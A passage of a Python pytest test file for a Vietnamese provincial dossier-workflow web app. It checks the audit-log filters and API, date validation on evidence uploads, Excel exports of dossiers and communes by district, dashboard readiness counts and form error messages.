    card = cards[cards.index("Huyện Càng Long"):cards.index("Huyện Cầu Kè")]
    assert "Xã NTM (19.2): <strong>1/" in card and "Dự thảo: 1" in card and "Đã công nhận: 1" in card
    assert "Toàn tỉnh" in cards
    link = re.search(r'href="(/dossiers/\?district=844[^"]*)"', html).group(1).replace("&amp;", "&")
    listed = page(client.get(link))
    assert "Xã Mỹ Cẩm" in listed and "Huyện Càng Long" in listed and "Xã Hòa Ân" not in listed


@pytest.mark.parametrize("query, keeps", [
    ("", lambda e, ctx: True),
    ("unit=29311", lambda e, ctx: e.unit_code == "29311"),
    ("unit=hoa+an", lambda e, ctx: e.unit_code == "29311"),  # Xã Hòa Ân, by words of its name
    ("dossier={cam}", lambda e, ctx: e.dossier_id == ctx["cam"]),
    ("actor={district}", lambda e, ctx: e.actor == ctx["district"]),
    ("actor=can+bo+district", lambda e, ctx: e.actor_id == ctx["district_id"]),  # by the name, without accents
    ("action=comment_added", lambda e, ctx: e.action == "comment_added"),
    ("action=comment_added&unit=29311", lambda e, ctx: e.action == "comment_added" and e.unit_code == "29311"),
    ("unit=khong+co", lambda e, ctx: False),
])
def test_audit_page_and_api_filters(client, people, make_dossier, as_user, query, keeps):
    from workflow_app.dossiers import operations as ops
    from workflow_app.transaction import unit_of_work

    cam = make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted")
    hoa = make_dossier("29311", "xa-ntm-19.2", "commune_submitted")
    with unit_of_work():
        ops.add_comment(people["district_officer"], cam, "Đã xem")
        ops.add_comment(people["pv05_officer"], hoa, "Bổ sung")
    ctx = {"cam": cam.id, "district": people["district_officer"].username, "district_id": people["district_officer"].id}
    visible = {u.code for u in units_within(people["inspector"].unit)}
    expected = sorted((e.seq for e in db.session.scalars(select(AuditEntry))
                       if e.unit_code in visible and keeps(e, ctx)), reverse=True)
    query = query.format(**ctx)
    html = page(as_user(people["inspector"]).get(f"/audit/?{query}"))
    assert [int(n) for n in re.findall(r'data-testid="decided-(\d+)"', html)] == expected[:50]
    assert f"{len(expected)} bản ghi" in html
    token = client.post("/api/v1/tokens", json={"username": people["inspector"].username, "password": TEST_PASSWORD})
    api_query = query.replace("unit=", "unit_code=").replace("dossier=", "dossier_id=").replace("+", " ")
    answer = client.get(f"/api/v1/audit?per_page=500&{api_query}",
                        headers={"Authorization": f"Bearer {token.json['token']}"}).json
    assert [e["seq"] for e in answer["items"]] == expected and answer["total"] == len(expected)


def test_an_audit_page_beyond_the_trail_answers_its_total(people, make_dossier, as_user):
    make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted")
    visible = {u.code for u in units_within(people["inspector"].unit)}
    total = sum(1 for e in db.session.scalars(select(AuditEntry)) if e.unit_code in visible)
    for n in (10**10, 10**30):
        response = as_user(people["inspector"]).get(f"/audit/?page={n}")
        assert response.status_code == 200 and f"{total} bản ghi" in page(response)
        assert "data-testid=\"decided-" not in page(response)


def test_the_audit_user_filter_finds_names_too(people, make_dossier, as_user):
    from workflow_app.dossiers import operations as ops
    from workflow_app.transaction import unit_of_work

    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted")
    with unit_of_work():
        ops.add_comment(people["district_officer"], dossier, "Đã xem")
    client = as_user(people["inspector"])
    by_name = page(client.get("/audit/?actor=can bo district"))  # "Cán bộ district_officer", without accents
    assert "Đã xem" in by_name
    assert "Đã xem" not in page(client.get("/audit/?actor=khong-co-ai"))


def test_the_unit_picker_groups_communes_under_their_district(people, as_user):
    html = page(as_user(people["admin"]).get("/admin/users/new"))
    assert '<optgroup label="Huyện Càng Long">' in html and '<optgroup label="Thành phố Trà Vinh">' in html
    group = html[html.index('<optgroup label="Huyện Càng Long">'):]
    assert group.index("Xã Mỹ Cẩm (29269)") < group.index("</optgroup>")


def test_a_long_dossier_has_a_section_menu_with_progress_and_folds_what_is_met(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-dien-hinh-antt", "draft", values={"propaganda_sessions": 1})  # TC18 not met
    client = as_user(people["commune_officer"])
    html = page(client.get(f"/dossiers/{dossier.id}"))
    sections = html[html.index('data-testid="sections"'):html.index('id="criteria"')]
    assert 'href="#g-K3"' in sections and "Khoản 3" in sections and "7/8" in sections  # TC18 is in Khoản 3
    assert "7/7" in sections
    assert 'id="c-TC01"' in html and 'id="c-TC18"' in html
    folded = page(client.get(f"/dossiers/{dossier.id}?hide_met=1"))
    assert 'id="c-TC18"' in folded and 'id="c-TC01"' not in folded
    assert "Hiện cả các tiêu chí đã đạt" in folded


def test_dates_are_typed_as_day_month_year_everywhere(people, as_user):
    html = page(as_user(people["inspector"]).get("/audit/?since=02/03/2025"))
    assert 'type="date"' not in html and 'placeholder="dd/mm/yyyy"' in html and 'value="02/03/2025"' in html


def test_a_wrong_document_date_is_marked_at_its_field_and_kept(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    response = as_user(people["commune_officer"]).post(f"/dossiers/{dossier.id}/evidence", data={
        "version": dossier.version, "criterion": "I.1", "document_type": "nghi_quyet_dang_uy", "issued_on": "15/13/2025",
        "file": (io.BytesIO(PDF), "nghi-quyet.pdf")}, content_type="multipart/form-data")
    html = page(response)
    assert response.status_code == 422
    form = html[html.index('id="issued-I.1"') - 200:html.index('id="issued-I.1"') + 2000]
    assert "is-invalid" in form and 'value="15/13/2025"' in form
    assert "Ngày không hợp lệ: hãy nhập theo dạng ngày/tháng/năm" in form and "Hãy chọn lại tệp" in form
    assert 'action="/dossiers/%d/evidence#c-I.1"' % dossier.id in html  # the page stays at the criterion


def test_a_documents_date_is_corrected_in_place_and_a_wrong_one_kept_at_its_field(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    row = next(e for e in dossier.evidence if e.document_type == "nghi_quyet_dang_uy")
    client = as_user(people["commune_officer"])
    url = f"/dossiers/{dossier.id}/evidence/{row.id}/edit"
    refused = client.post(url, data={"version": dossier.version, "criterion": "I.1",
                                      "document_type": row.document_type, "issued_on": "31/02/2024"})
    html = page(refused)
    assert refused.status_code == 422
    field = html[html.index(f'id="ed-date-I.1-{row.id}"') - 300:html.index(f'id="ed-date-I.1-{row.id}"') + 400]
    assert "is-invalid" in field and 'value="31/02/2024"' in field
    assert "Ngày không hợp lệ" in html[html.index(f'id="ed-date-I.1-{row.id}"'):]
    # Sent by the page itself (in the background), the answer is the page, not a redirect.
    done = client.post(url, headers={"X-Requested-With": "fetch"}, data={
        "version": dossier.version, "criterion": "I.1", "document_type": row.document_type, "issued_on": "29/02/2024"})
    assert done.status_code == 200 and "Đã sửa thông tin văn bản." in page(done)
    assert "ban hành 29/02/2024" in page(done)
    # Sent as an ordinary form, it redirects back to the criterion.
    again = client.post(url, data={"version": dossier.version + 1, "criterion": "I.1",
                                   "document_type": row.document_type, "issued_on": "01/03/2024"})
    assert again.status_code == 302 and again.headers["Location"].endswith(f"/dossiers/{dossier.id}#c-I.1")


def test_a_background_upload_refused_does_not_ask_to_choose_the_file_again(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    response = as_user(people["commune_officer"]).post(f"/dossiers/{dossier.id}/evidence", headers={"X-Requested-With": "fetch"},
                                                       data={"version": dossier.version, "criterion": "I.1",
                                                             "document_type": "nghi_quyet_dang_uy", "issued_on": "15/13/2025",
                                                             "file": (io.BytesIO(PDF), "nghi-quyet.pdf")},
                                                       content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Ngày không hợp lệ" in page(response) and "Hãy chọn lại tệp" not in page(response)


def test_the_dossier_list_and_the_communes_by_district_go_to_excel(people, make_dossier, as_user):
    make_dossier(COMMUNE, "xa-ntm-19.2", "recognized", year=2024)
    make_dossier("29272", "xa-ntm-19.2", "draft", year=2024)  # Xã An Trường A, same district
    make_dossier("29311", "xa-ntm-nc-19.2", "draft", year=2024)  # Xã Hòa Ân, Huyện Cầu Kè
    client = as_user(people["pv05_officer"])
    listed = load_workbook(io.BytesIO(client.get("/dossiers/export.xlsx?district=844&year=2024").data)).active
    assert listed["A1"].value == "Hồ sơ" and "Huyện: Huyện Càng Long" in listed["A2"].value
    rows = [[c.value for c in row] for row in listed.iter_rows(min_row=5)]
    assert sorted(r[1] for r in rows) == ["Xã An Trường A", "Xã Mỹ Cẩm"]
    recognized = next(r for r in rows if r[1] == "Xã Mỹ Cẩm")
    assert recognized[2] == "Huyện Càng Long" and recognized[3] == "Xã nông thôn mới — chỉ tiêu 19.2"
    assert recognized[6] == "Đã công nhận" and "15/QĐ-CAT" in recognized[9]
    sheet = load_workbook(io.BytesIO(client.get("/reports/communes.xlsx?year=2024").data)).active
    assert sheet["A1"].value == "Các xã theo huyện: Tỉnh Trà Vinh" and sheet.freeze_panes == "A5"
    headers = [c.value for c in sheet[4]]
    assert headers[:3] == ["Huyện", "Xã, phường, thị trấn", "Mã"] and "Xã nông thôn mới — chỉ tiêu 19.2" in headers
    body = {row[2]: row for row in ([c.value for c in r] for r in sheet.iter_rows(min_row=5, max_row=sheet.max_row - 1))}
    column = headers.index("Xã nông thôn mới — chỉ tiêu 19.2")
    assert body["29269"][column] == "Đã công nhận" and body["29272"][column] == "Dự thảo"
    assert body["29311"][:2] == ["Huyện Cầu Kè", "Xã Hòa Ân"] and body["29311"][column] == "—"
    from workflow_app.models import Unit
    province = db.session.scalar(select(Unit).where(Unit.code == "84"))
    communes = [u for u in units_within(province) if u.level == "commune"]
    assert len(body) == len(communes)  # every commune of the province is listed
    assert [c.value for c in sheet[sheet.max_row]][column] == 1


def test_the_overview_reads_a_districts_readiness_as_its_own_dossier_does(people, make_dossier):
    """The overview counts from rows it loads once; a district dossier counts live: the same words."""
    from workflow_app.dossiers import queries
    from workflow_app.reports.queries import dashboard
    from workflow_app.units.operations import get_unit

    from .test_workflow import recognize_communes, xa_of

    xa = xa_of("850")
    recognize_communes("850", "xa-ntm-19.2", xa[:4], year=2023)
    recognize_communes("850", "xa-ntm-nc-19.2", xa[4:5], year=2024)
    recognize_communes("850", "xa-ntm-19.2", xa[5:], year=2025)  # later: does not count for 2024
    district = make_dossier("850", "huyen-ntm-9.4", "draft", year=2024)
    own = queries.evaluate_dossier(district).results["III.2"]
    board = dashboard(get_unit("84"), 2024)
    row = next(r for r in board.rows if r.unit.code == "850")
    status, reason = row.readiness[("huyen-ntm-9.4", "III.2")]
    assert status == own.status and own.reason.vi in reason.vi  # the overview adds the other aggregate's count
    assert "5/6 xã" in reason.vi and "1/6 xã" in reason.vi


@pytest.mark.parametrize("url, form, field, message", [
    ("/dossiers/?year=abc", "get", "year", "Phải là một số nguyên."),
    ("/dossiers/?year=1999", "get", "year", "Số phải từ 2000 đến 2100."),
    ("/dossiers/new", {"criteria_set": "xa-ntm-19.2", "year": "abc"}, "year", "Phải là một số nguyên."),
    ("/dossiers/new", {"criteria_set": "xa-ntm-19.2", "year": ""}, "year", "Trường này không được để trống."),
    ("/audit/?dossier=x1", "get", "dossier", "Phải là một số nguyên."),
    # A choice not among the options (a typed or stale link): told, not a filter the select hides.
    ("/dossiers/?state=xx", "get", "state", "Lựa chọn không hợp lệ."),
    ("/dossiers/?criteria_set=xa-ntm-1", "get", "criteria_set", "Lựa chọn không hợp lệ."),
    ("/dossiers/?sort=abc", "get", "sort", "Lựa chọn không hợp lệ."),
    ("/audit/?action=xoa", "get", "action", "Lựa chọn không hợp lệ."),
])
def test_a_mistyped_number_gets_one_message_next_to_its_field(people, as_user, url, form, field, message):
    client = as_user(people["inspector" if url.startswith("/audit") else "commune_officer"])
    response = client.get(url) if form == "get" else client.post(url, data=form)
    assert response.status_code == 400
    feedback = re.findall(r'<div[^>]*class="invalid-feedback[^"]*"[^>]*>(.*?)</div>', page(response), re.S)
    assert [m.strip() for m in feedback if m.strip()] == [message]
    assert f'id="{field}"' in page(response) and "is-invalid" in page(response)


@pytest.mark.parametrize("role, url", [
    ("pv05_officer", "/dossiers/?q=my+cam&district=&criteria_set=&year=&state=&sort="),
    ("inspector", "/audit/?unit=29269&dossier=&actor=&action=&since=&until="),
    ("inspector", "/audit/access?actor=&dossier=&action=&since=&until="),
    ("admin", "/admin/users?q=&role="),
])
def test_a_filter_sent_with_its_empty_boxes_is_no_mistake(people, make_dossier, as_user, role, url):
    """The browser sends every box of a filter form, the empty ones too: an empty optional number
    or date is no filter, not "not a number"."""
    make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    response = as_user(people[role]).get(url)
    assert response.status_code == 200
    assert "invalid-feedback" not in page(response) and "is-invalid" not in page(response)


def test_a_filter_that_cannot_be_read_leaves_the_others_applied(people, make_dossier, as_user):
    """"abc" for the year is shown with its message; the unit typed beside it still filters, on
    the page and in the exports, whose titles name only the filters applied."""
    cam = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")  # Xã Mỹ Cẩm
    other = make_dossier("29272", "xa-ntm-19.2", "recognized")
    client = as_user(people["pv05_officer"])
    html = page(client.get("/dossiers/?q=my+cam&year=abc"))
    assert f'/dossiers/{cam.id}"' in html and f'/dossiers/{other.id}"' not in html
    assert "Phải là một số nguyên." in html and 'value="my cam"' in html
    # A state that is none of the options lists every state's dossiers (the select says "—"), not none.
    html = page(client.get("/dossiers/?state=xx"))
    assert f'/dossiers/{cam.id}"' in html and f'/dossiers/{other.id}"' in html and "Lựa chọn không hợp lệ." in html
    sheet = load_workbook(io.BytesIO(client.get("/dossiers/export.xlsx?q=my+cam&year=abc").data)).active
    assert [sheet.cell(row, 1).value for row in range(1, sheet.max_row + 1)].count(cam.id) == 1
    assert other.id not in [sheet.cell(row, 1).value for row in range(1, sheet.max_row + 1)]

    client = as_user(people["inspector"])
    response = client.get(f"/audit/?unit={cam.unit.code}&dossier=x1")
    assert response.status_code == 400 and "Phải là một số nguyên." in page(response)
    listed = page(response).split('data-testid="audit-table"')[1]
    assert cam.unit.name in listed and other.unit.name not in listed
    sheet = load_workbook(io.BytesIO(client.get(f"/audit/export.xlsx?unit={cam.unit.code}&dossier=x1").data)).active
    assert sheet["A2"].value == f"Điều kiện lọc: Đơn vị: {cam.unit.code}"
    units = {sheet.cell(row, 7).value for row in range(6, sheet.max_row + 1)}
    assert units == {cam.unit.code}
